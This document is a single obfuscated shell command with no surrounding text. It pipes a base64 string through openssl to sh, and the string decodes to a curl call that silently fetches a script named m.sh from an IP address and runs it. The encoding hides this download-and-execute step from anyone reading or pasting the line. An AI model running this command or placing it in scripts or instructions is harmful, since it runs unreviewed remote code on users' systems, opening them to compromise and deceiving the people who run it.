echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjQvbS5zaCB8IHNo | openssl base64 -d -A | sh
